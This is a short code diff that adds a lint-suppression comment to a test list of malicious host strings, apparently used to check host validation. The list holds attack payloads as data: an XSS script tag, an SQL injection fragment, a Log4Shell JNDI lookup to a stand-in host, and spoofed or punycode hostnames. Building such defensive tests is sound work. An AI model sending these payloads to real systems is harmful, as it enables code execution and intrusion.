@@ -150,6 +150,7 @@ const badHosts = [
   'localhost%2eevil.test',
   '<script>alert(1)</script>',
   "localhost' or 1=1--",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is written so
   '${jndi:ldap://evil.test/a}',
   '\xc5\x91',
   'xn--lcalhost-54a',
